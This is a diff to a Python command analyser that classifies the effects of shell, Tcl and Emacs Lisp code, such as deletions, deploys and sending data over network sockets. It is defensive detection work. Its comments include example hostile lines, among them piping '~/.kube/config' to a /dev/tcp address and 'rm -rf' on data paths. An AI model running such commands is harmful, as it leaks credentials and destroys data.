@@ -311,6 +311,30 @@ _TCL_BRACES: Final = re.compile(r"\{([^{}\n]{0,2048})\}")
 _TCL_RUNS: Final = re.compile(r"(?:^|[\[;])[ \t]*(?:exec|spawn)[ \t]+([^\]\n]{1,2048})", re.M)
 
 
+# Tcl's `file delete ?-force? ?--? path …`
+_TCL_FILE_DELETE: Final = re.compile(
+    r"(?:^|[\[;])[ \t]*file[ \t]+delete[ \t]+([^\]\n;]{1,2048})", re.M
+)
+# Emacs Lisp's calls that delete or run a shell command, with a string first: `(delete-directory
+# "/x" t)` (t: with what it holds), `(delete-file "/x")`, `(shell-command "rm -rf /x")`
+_ELISP_CALL: Final = re.compile(
+    r"\(\s*(delete-directory|delete-file|shell-command|async-shell-command"
+    r"|call-process-shell-command|shell-command-to-string)\s+\"((?:[^\"\\\n]|\\.){1,2048})\""
+    r"([^()\n]{0,64})\)"
+)
+
+
+def _elisp_line(m: re.Match[str]) -> str:
+    """The command line an Emacs Lisp call amounts to."""
+    name, arg, rest = m.group(1), m.group(2).replace('\\"', '"'), m.group(3).split()
+    if name == "delete-directory":
+        recursive = bool(rest) and rest[0] != "nil"
+        return ("rm -r -f -- " if recursive else "rmdir -- ") + shlex.quote(arg)
+    if name == "delete-file":
+        return "rm -f -- " + shlex.quote(arg)
+    return arg
+
+
 def _single_quoted(m: re.Match[str]) -> str:
     """A braced Tcl word as the shell's one word (its own single quotes kept)."""
     return "'" + m.group(1).replace("'", "'\\''") + "'"
@@ -373,7 +397,7 @@ class Findings:
     dataclasses: mypyc compiles a class's own methods but not those a dataclass generates.)"""
 
     __slots__ = ("effects", "kinds", "urls", "texts", "programs", "secret_sources", "amounts",
-                 "unit_amounts", "partial", "seen", "requests", "dumped")  # fmt: skip
+                 "unit_amounts", "partial", "seen", "requests", "dumped", "targets")  # fmt: skip
 
     def __init__(self) -> None:
         self.effects: list[Effect] = []
@@ -389,6 +413,7 @@ class Findings:
         # HTTP writes made by code, as the fields of a request (`{"method", "url", "json"}`)
         self.requests: list[dict[str, Any]] = []
         self.dumped: list[str] = []  # what dumps and whole-table reads are of, by name
+        self.targets: list[str] = []  # orders that change something: where they say (production)
 
     def add(self, e: Effect) -> None:
         if e not in self.seen:
@@ -445,7 +470,7 @@ class Analyser:
 
     __slots__ = ("table", "dest_class", "out", "budget", "tainted", "cwd", "exported",
                  "downloaded", "git_remotes", "git_staged", "aliases", "functions", "hook_dirs", "globs_left", "piped",
-                 "destroy_plans", "inner", "scripts", "last_dump", "retagged")  # fmt: skip
+                 "destroy_plans", "inner", "scripts", "last_dump", "retagged", "moved")  # fmt: skip
 
     def __init__(
         self,
@@ -473,6 +498,7 @@ class Analyser:
         self.scripts: dict[str, str] = {}  # files this script wrote, by path and name: content
         self.last_dump: tuple[Words, list[str] | None] | None = None  # `_dump_of`'s last answer
         self.retagged: dict[str, str] = {}  # `docker tag SRC DST`: DST -> SRC
+        self.moved: dict[str, str] = {}  # `mv SRC DST`: DST -> SRC
 
     # ------------------------------------------------------------------------ entry points
     def text(self, value: str, role: str) -> None:
@@ -653,12 +679,18 @@ class Analyser:
         for e in found:
             self.out.add(e)
             self.out.kinds.add("write")
-        if not found:
+        # where an order that changes something says it acts (production), unless it edits a
+        # document that only talks about such a place
+        target = "" if _orders.about_a_document(text, words) else text[:4096]
+        if found:
+            self.out.targets.append(target)
+        else:
             reads, verb = _orders.steps_kind(text, words)
             if reads:
                 self.out.kinds.add("read")
             elif verb:
                 self.out.kinds.add("write")  # "restart the staging pods": a side effect
+                self.out.targets.append(target)
                 if verb in words.deploy:  # "deploy build 812 to production": where it says
                     what = describe("orders a deploy", "", False, text)
                     self.out.add(Effect("deploy", "", what))
@@ -819,6 +851,8 @@ class Analyser:
                 if any(n.pipeline == c.pipeline and n.stage > c.stage for n in cmds):
                     return True
                 continue
+            if not _distinct_program(prog) and any(r.lower() in t.prose_words for r in rest):
+                continue  # "Erase the old paragraph about `terraform destroy`": a sentence
             if any(" " in r for r in rest) and (
                 prog in t.db_clients or prog in t.shells or prog in t.interpreters
             ):
@@ -900,6 +934,13 @@ class Analyser:
             return argv
         return [plain, *(a.replace("\\", "") if a[:1] == "-" else a for a in argv[1:])]
 
+    def _note_move(self, argv: list[str]) -> None:
+        """`mv /var/lib/pg/main /tmp/old`: what a later command does to /tmp/old it does to
+        what was moved there."""
+        paths = [a for a in argv[1:] if a[:1] != "-"]
+        if len(paths) == 2 and len(self.moved) < 8 and paths[1].rstrip("/"):
+            self.moved[paths[1].rstrip("/")] = paths[0].rstrip("/")
+
     def _alias(self, argv: list[str]) -> None:
         """`alias NAME='VALUE'`: NAME runs VALUE's words for the rest of the script."""
         for a in argv[1:9]:
@@ -945,6 +986,10 @@ class Analyser:
         head = argv[:i]
         argv = argv[i:]
         words = words[i:]
+        if self.moved:
+            argv = [_moved_back(self.moved, a) for a in argv]
+        if argv and program_name(argv[0]) in _MOVERS:
+            self._note_move(argv)
         if (
             len(words) == 1
             and words[0].quoted
@@ -1271,6 +1316,9 @@ class Analyser:
         """Commands whose job is running another command: run that one instead."""
         t = self.table
         if prog in t.shells:
+            if _noexec(argv):
+                self.out.kinds.add("read")  # `bash -n deploy.sh`: its syntax checked, nothing run
+                return True
             code_arg = _flag_value(argv, "c")
             exported, self.exported = self.exported, ""
             if code_arg is not None:
@@ -1324,7 +1372,7 @@ class Analyser:
         if prog in ("start-process", "saps") and self._start_process(argv, depth):
             return True
         interp = t.interpreters.get(prog)
-        if interp is not None and self._interpreter(prog, interp, argv, c, depth):
+        if interp is not None and self._interpreter(prog, interp, argv, c, depth, upstream):
             return True
         runner = _runner(t, argv)
         if runner is not None:
@@ -1332,7 +1380,13 @@ class Analyser:
         return False
 
     def _interpreter(
-        self, prog: str, spec: Mapping[str, Any], argv: list[str], c: Cmd, depth: int
+        self,
+        prog: str,
+        spec: Mapping[str, Any],
+        argv: list[str],
+        c: Cmd,
+        depth: int,
+        upstream: list[_Ran],
     ) -> bool:
         lang = str(spec.get("lang") or "")
         flags = [str(f).lower() for f in (spec.get("flags") or [])]
@@ -1397,8 +1451,8 @@ class Analyser:
             rest = [a for a in argv[1:] if not a.startswith("-")]
             if rest and not rest[0].lower().endswith(".ps1"):
                 body = " ".join(rest)
-        if body is None and c.heredoc and lang in ("python", "js", "sql", "code", "pwsh", "tcl"):
-            body = c.heredoc
+        if body is None and lang in ("python", "js", "sql", "code", "pwsh", "tcl", "elisp"):
+            body = _fed_text(c, upstream)  # a here-document or -string, or what is piped in
         if body is None:
             return False
         if spec.get("parenless"):
@@ -1454,6 +1508,16 @@ class Analyser:
             for m in _TCL_RUNS.finditer(body, 0, 65536):
                 line = _TCL_BRACES.sub(_single_quoted, m.group(1))
                 self.shell(line, strict=False, depth=depth + 1)
+            for m in _TCL_FILE_DELETE.finditer(body, 0, 65536):
+                # `file delete -force /x`: a directory with what it holds (`rm -r -f`)
+                words = _TCL_BRACES.sub(_single_quoted, m.group(1)).split()
+                paths = [x for x in words if x not in ("-force", "--")]
+                flags = "-r -f " if "-force" in words else ""
+                self.shell(f"rm {flags}{' '.join(paths)}", strict=False, depth=depth + 1)
+            return
+        if lang == "elisp":
+            for m in _ELISP_CALL.finditer(body, 0, 65536):
+                self.shell(_elisp_line(m), strict=False, depth=depth + 1)
             return
         if lang == "argv":
             self.shell(body, strict=False, depth=depth + 1)
@@ -1508,6 +1572,8 @@ class Analyser:
             flags = [str(flag).lower(), *also]
             for k in range(n_prog, len(argv) - 1):
                 given = next((f for f in flags if low[k] == f or low[k].startswith(f + "=")), "")
+                if not given and _clustered(low[k], flags):
+                    given = low[k]  # `script -qc 'cmd'`: the flag last of a cluster of letters
                 if given:
                     value = argv[k + 1] if low[k] == given else argv[k].split("=", 1)[1]
                     if spec.get("typed"):  # `screen -X stuff 'cmd\n'`: the Enter typed after it
@@ -1744,7 +1810,10 @@ class Analyser:
                 or "--quiet" in r.words.low
                 or (p in self.table.cloud_programs and _lists_everything(r.words))
                 or _whole_listing(self.table, r.words.text)
-            ) and not _narrowed_listing(r.words.argv, self.table.listing_filters):
+            ) and not (
+                _narrowed_listing(r.words.argv, self.table.listing_filters)
+                or _scratch_pattern(self.table, r.words.argv)
+            ):
                 mass = True
         fed = c.heredoc
         if fed is None:  # `xargs rm -rf <<< /srv/data`: the here-string is what flows in
@@ -2008,6 +2077,7 @@ class Analyser:
                 self.sql(value, strict=True)
 
     def _redirects(self, c: Cmd, w: Words, j: Judged, depth: int, piped: str | None) -> None:
+        sent = False
         for r in c.redirects:
             target = r.target.text
             m = _DEV_TCP.match(target)
@@ -2024,6 +2094,20 @@ class Analyser:
                             describe("binds a shell to a network connection", "", False, c.text),
                         )
                     )
+                elif (
+                    r.op in (">", ">>", ">|", "&>", "&>>")
+                    and not sent
+                    and self.dest_class(m.group(1)) != "internal"
+                ):
+                    sent = True  # (one socket judged per command: its source read once)
+                    # `cat ~/.kube/config > /dev/tcp/203.0.113.5/8080`: what it prints, sent
+                    self.out.urls.append(f"tcp://{m.group(1)}")
+                    source = self._source(w, j, c)
+                    if source:
+                        what = describe(
+                            f"sends {_short(source)} to {m.group(1)}", "", False, c.text
+                        )
+                        self.out.add(Effect("exfiltrate", "", what))
                 continue
             if (
                 r.op in (">", ">>", ">|", "&>", "&>>")
@@ -4729,6 +4813,19 @@ _NULL_COMMANDS: Final = frozenset([":", "true"])
 
 _ENGLISH: Final = frozenset(
     [
+        # a network device's words (effects.yaml): commands there, verbs in a sentence
+        "write",
+        "show",
+        "display",
+        "include",
+        "exclude",
+        "begin",
+        "section",
+        "request",
+        "execute",
+        "system",
+        "transport",
+        "no",
         "find",
         "kill",
         "format",
@@ -4972,6 +5069,39 @@ def _runner(t: EffectTable, argv: list[str]) -> str | None:
         if key in t.remote_runners:
             return key
     return None
+
+
+def _noexec(argv: list[str]) -> bool:
+    """A shell's `-n` among its options: it reads the script and runs nothing."""
+    for a in argv[1:8]:
+        if a[:1] != "-" or a == "-" or a == "--":
+            return False
+        if a[1:2] != "-" and a[1:].isalpha() and "n" in a[1:]:
+            return True
+    return False
+
+
+_MOVERS: Final = frozenset({"mv", "move", "move-item", "mi"})
+
+
+def _moved_back(moved: dict[str, str], word: str) -> str:
+    """A path under where an earlier `mv` put something, as the place it came from."""
+    for dest, src in moved.items():
+        if word == dest or word.rstrip("/") == dest:
+            return src
+        if word.startswith(dest + "/"):
+            return src + word[len(dest) :]
+    return word
+
+
+def _clustered(word: str, flags: list[str]) -> bool:
+    """`-qc`: short switches run together, ending with a one-letter flag of `flags`."""
+    return (
+        len(word) > 2
+        and word[0] == "-"
+        and word[1:].isalpha()
+        and any(len(f) == 2 and f[0] == "-" and word[-1] == f[1] for f in flags)
+    )
 
 
 def _without_switches(argv: list[str], n_prog: int) -> list[str]:
@@ -5438,6 +5568,16 @@ def _substituted(words: list[Word], filters: frozenset[str]) -> list[str]:
                 text = text.replace("$(…)", value, 1)
         out.append(text)
     return out
+
+
+def _scratch_pattern(t: EffectTable, argv: list[str]) -> bool:
+    """A listing's `--pattern`/`--match` that names scratch (`redis-cli --scan --pattern
+    'session:tmp:*'`); `'user:*'` names every user's keys, data."""
+    for k in range(1, min(len(argv), 64) - 1):
+        if argv[k].lower() in ("--pattern", "--match"):
+            words = NOT_ALNUM_RUN.split(argv[k + 1].lower())
+            return not t.harmless_objects.isdisjoint(words)
+    return False
 
 
 def _narrowed_listing(argv: list[str], filters: frozenset[str]) -> bool:
